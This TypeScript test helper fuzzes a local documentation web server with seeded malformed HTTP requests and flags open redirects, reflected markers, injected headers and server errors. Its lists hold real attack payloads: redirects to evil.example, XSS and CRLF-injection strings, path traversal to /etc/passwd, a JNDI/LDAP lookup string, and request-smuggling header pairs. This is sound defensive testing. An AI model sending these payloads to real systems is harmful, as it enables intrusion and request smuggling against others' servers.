/** Malformed addresses and headers, generated from a seed, and checks of the responses to them. */
import {connect} from 'node:net';
import {randomFrom} from '../random';

/** Marker that must not appear in any response, wherever it was sent. */
const MARK = 'm4rk3r';
const EVIL = 'evil.example';

const BASES = [
  '',
  '/faq',
  '/uk/',
  '/uk/faq',
  '/1.0/migration',
  '/services/blik/payin_hpp',
  '/assets/js/',
  '/search-index/head.json',
];
const PIECES = [
  `//${EVIL}`,
  `/\\${EVIL}`,
  `/%2f%2f${EVIL}`,
  `/%5c${EVIL}`,
  `/http://${EVIL}`,
  `/@${EVIL}`,
  `/.${EVIL}`,
  `/<script>${MARK}</script>`,
  `/%3Csvg%20onload=${MARK}%3E`,
  `/"onmouseover="${MARK}`,
  `/%0d%0aLocation:%20https://${EVIL}/`,
  `/%0d%0aX-Injected:%20${MARK}`,
  `/%E5%98%8A%E5%98%8DX-Injected:${MARK}`,
  '/..',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%5c..%5cwindows',
  '/.',
  '/',
  '//',
  '/%00',
  '/%zz',
  '/%ff%fe',
  '/%c0%ae%c0%ae/',
  '/\u0001',
  '/$uri$args',
  '/{env.HOME}',
  '/${jndi:ldap://evil.example/a}',
  '/index.html',
  '/index',
  '.html',
  '/404.html',
  '.br',
  '/.git/config',
  ';a=b',
  '/~root',
  '/*',
  `/${'a'.repeat(300)}`,
  `/${'a/'.repeat(200)}`,
];
const QUERIES = [
  '',
  '?',
  `?next=//${EVIL}`,
  `?q=<script>${MARK}</script>`,
  `?%0d%0aX-Injected:${MARK}`,
  `?${'q=%27%22&'.repeat(400)}`,
  `?_=${'0'.repeat(6000)}`,
  '?_=0123abcd',
  `#${MARK}`,
];
const METHODS = ['GET', 'GET', 'GET', 'GET', 'HEAD', 'POST', 'PUT', 'OPTIONS', 'TRACE', 'PROPFIND', 'get', 'G3T'];
const HEADERS = [
  `X-Forwarded-Host: ${EVIL}`,
  'X-Forwarded-Proto: javascript',
  `X-Original-URL: //${EVIL}`,
  `Forwarded: host=${EVIL}`,
  `Referer: https://${EVIL}/<script>${MARK}</script>`,
  `Cookie: ${'a=b; '.repeat(600)}`,
  `Cookie: ${'a=b; '.repeat(10_000)}`,
  'Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7',
  'Range: bytes=-1',
  'Range: bytes=18446744073709551615-',
  'Range: lines=1',
  'If-None-Match: *',
  'If-None-Match: "',
  `If-None-Match: ${'"a",'.repeat(500)}`,
  'If-Modified-Since: yesterday',
  'Accept-Encoding: br;q=-1,gzip;q=9e9,*',
  'Accept-Encoding: gzip, br, zstd, compress, identity;q=0',
  'Content-Length: 5',
  'Content-Length: -1',
  'Content-Length: 1\r\nContent-Length: 2',
  'Content-Length: 3\r\nTransfer-Encoding: chunked',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Expect: 100-continue',
  'Expect: tea',
  ' Folded: 1',
  'No colon',
  ': no name',
  'X-Nul: a\u0000b',
  `${'X'.repeat(9000)}: 1`,
  'X-High: \u00ff\u00fe',
];
const HOSTS = [
  'docs.example',
  'docs.example',
  EVIL,
  '',
  'a b',
  `${EVIL}:80@docs.example`,
  '[::1',
  `"${MARK}"`,
  'docs.example\r\nHost: b',
];

/** @returns complete raw requests */
export function attacks(seed: number, count: number): string[] {
  const random = randomFrom(seed);
  const any = (list: readonly string[]) => list[Math.floor(random() * list.length)]!;
  const some = (list: readonly string[], most: number) =>
    Array.from({length: Math.floor(random() * (most + 1))}, () => any(list));
  return Array.from({length: count}, () => {
    const address = `${any(BASES)}${some(PIECES, 3).join('')}${any(QUERIES)}` || '/';
    const version = random() < 0.95 ? 'HTTP/1.1' : any(['HTTP/1.0', 'HTTP/9.9', 'HTTP/2.0', 'http/1.1', '']);
    const lines = [`${any(METHODS)} ${address} ${version}`, `Host: ${any(HOSTS)}`, ...some(HEADERS, 1)];
    return `${lines.join('\r\n')}\r\nConnection: close\r\n\r\n`;
  });
}

export interface RawReply {
  /** 0 if the connection is closed without a response. */
  status: number;
  headers: [name: string, value: string][];
  body: string;
}

const PATIENCE_MS = 1500;

/** @returns the response to the text, read until the connection is closed @throws Error if neither happens in time */
export function sendRaw(port: number, text: string): Promise<RawReply> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(text, 'latin1'));
    let answer = '';
    socket.setEncoding('latin1');
    socket.setTimeout(PATIENCE_MS, () => {
      socket.destroy();
      // A missing request body is the client's fault, and the server waits for it; close the connection.
      resolve({status: 0, headers: [], body: answer});
    });
    socket.on('data', (part: string) => (answer += part));
    // The server may close the connection before it has read everything.
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error);
    });
    socket.on('close', () => {
      const [head = '', ...body] = answer.split('\r\n\r\n');
      const [first = '', ...lines] = head.split('\r\n');
      const headers = lines.map((line): [string, string] => {
        const colon = line.indexOf(':');
        return [line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim()];
      });
      resolve({status: Number(/^HTTP\/1[.][01] (\d{3})/.exec(first)?.[1] ?? 0), headers, body: body.join('\r\n\r\n')});
    });
  });
}

/** Statuses of RFC 9110 for an unknown method, transfer coding or HTTP version; not a server fault. */
const UNKNOWN = new Set([501, 505]);

/** @returns a line for each problem of a response */
export function faults({status, headers, body}: RawReply): string[] {
  const found: string[] = [];
  if (status >= 500 && !UNKNOWN.has(status)) found.push(`answers ${status}`);
  for (const [name, value] of headers) {
    if (name === 'location' && !staysHere(value)) found.push(`leads to ${value.slice(0, 80)}`);
    if (name === 'x-injected' || (name !== 'location' && (value.includes(MARK) || value.includes(EVIL))))
      found.push(`has the header ${name}: ${value.slice(0, 80)}`);
  }
  if (body.includes(MARK)) found.push('sends back what was sent');
  return found;
}

/** True if a browser stays on this origin: a single slash, and no character that browsers treat as a second one. */
const staysHere = (location: string): boolean =>
  /^\/(?![/\\])/.test(location) && new URL(location, 'http://docs.example').origin === 'http://docs.example';
